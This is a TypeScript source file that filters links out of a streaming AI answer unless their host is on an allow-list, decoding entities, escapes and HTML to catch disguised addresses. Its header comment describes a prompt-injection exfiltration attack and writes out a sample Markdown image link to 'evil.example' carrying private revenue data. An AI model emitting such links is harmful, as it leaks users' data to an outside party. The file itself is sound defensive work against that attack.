/*
 * Holds the addresses in an answer to an allow-list, while it streams.
 *
 * Threat: data that leaves by an address. Whoever can write a title that a model reads can have it say
 * `![](https://evil.example/?q=<the revenue>)`, which a front end would fetch. So an address keeps its place and loses
 * itself, unless its host is allowed; also one that comes in pieces, is written with entities or escapes of Markdown,
 * or stands in HTML, which is taken apart.
 */

import { lastRun, lastWord } from './text-ends.ts'

const removed = '(link removed)'

/** An address as front ends find one: a scheme, what leaves the scheme out, and what linkifiers take for an address. */
const address =
  /(?:[a-z][a-z0-9+.-]{0,30}:[\\/]{1,2}|(?:https?|ftp|wss?|data|javascript|vbscript|mailto|blob|file):|(?<=^|[^\w:/\\]|[^\w/\\]:)[\\/]{2,}(?=[^\s\\/])|(?<![\w.@-])www\.)/i

/** Where an address in plain sight ends: what follows can begin none by itself. */
const addressRun = new RegExp(`${address.source}[^\\s<>"'\`)\\]|]*`, 'gi')

/** The longest that is held back in the hope of its end. */
const longestHeld = 2048
/** Of a long run that may yet become an address. */
const tail = 256

export interface LinkFilter {
  /** What may be shown of the text so far, beyond what was given before. */
  push(text: string): string
  /** The rest, where nothing follows. */
  end(): string
}

/** A text that is there as a whole, as it may be shown. */
export function withAllowedLinks(filter: LinkFilter, text: string): string {
  return filter.push(text) + filter.end()
}

/** @param allowedHosts such as `app.example.com`; none of them stands for what is below it */
export function createLinkFilter(allowedHosts: readonly string[]): LinkFilter {
  const allowed = new Set(allowedHosts.map((host) => host.toLowerCase()))
  let held = ''
  /** Within an address that was too long: the rest of its word goes too. */
  let isSwallowing = false

  const release = (text: string): string => text.replace(/\S+/g, (word) => safeWord(word, allowed))
  return {
    push(text) {
      held += text
      if (isSwallowing) {
        const end = held.search(/\s/)
        held = end < 0 ? '' : held.slice(end)
        isSwallowing = end < 0
      }
      const word = lastWord(held)
      const begins = addressIn(held, word)
      if (begins !== undefined && held.length - begins > longestHeld) {
        const shown = release(held.slice(0, begins)) + removed
        held = ''
        isSwallowing = true
        return shown
      }
      const from = begins ?? Math.max(lastRun(held), held.length - tail)
      // A tag is not cut behind its bracket, where neither half would be one.
      const shown = release(held.slice(0, held[from - 1] === '<' ? from - 1 : from))
      held = held.slice(from)
      return shown
    },
    end() {
      const shown = release(held)
      held = ''
      isSwallowing = false
      return shown
    },
  }
}

/** Where the run begins in which the first address of a word does. */
function addressIn(text: string, word = 0): number | undefined {
  for (const run of text.slice(word).matchAll(/[!-~]+/g))
    if (address.test(plain(run[0]))) return word + run.index
  return undefined
}

function safeWord(given: string, allowed: Set<string>): string {
  const word = given.replace(/<(?=[a-z/!?])/gi, '< ')
  const begins = addressIn(word)
  if (begins === undefined) return word
  const held = (found: string) => (isAllowed(found, allowed) ? found : removed)
  // A destination without an address is a link to the page itself.
  const shown = word.slice(begins).replace(addressRun, held).replaceAll(`](${removed})`, `] ${removed}`)
  const left = plain(shown).replaceAll(addressRun, (found) => (isAllowed(found, allowed) ? '' : found))
  // What only shows when escapes are read was to be overlooked.
  return word.slice(0, begins) + (address.test(left) ? removed : shown)
}

/** As a front end reads it once Markdown and HTML are done with it. */
function plain(text: string): string {
  return text
    .replace(/&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|(\w+));?/gi, (whole, decimal, hexadecimal, name) => {
      if (name) return entities.get(name.toLowerCase()) ?? whole
      const code = decimal ? Number(decimal) : Number.parseInt(hexadecimal, 16)
      return code > 0 && code < 0x110000 ? String.fromCodePoint(code) : whole
    })
    .replace(/\\(?=[!-/:-@[-`{-~])(?!\\)/g, '')
    .replace(/[\p{Cc}\p{Cf}]/gu, '')
}

const entities = new Map(
  Object.entries({
    colon: ':',
    sol: '/',
    bsol: '\\',
    period: '.',
    tab: '',
    newline: '',
    amp: '&',
    lt: '<',
    gt: '>',
  }),
)

function isAllowed(found: string, allowed: Set<string>): boolean {
  if (allowed.size === 0) return false
  return [found, plain(found)].every((text) => {
    if (!/^https:\/\/[a-z0-9]/i.test(text) || address.test(text.slice(8)) || !URL.canParse(text)) return false
    const { hostname, username, password, port } = new URL(text)
    return allowed.has(hostname) && username === '' && password === '' && port === ''
  })
}
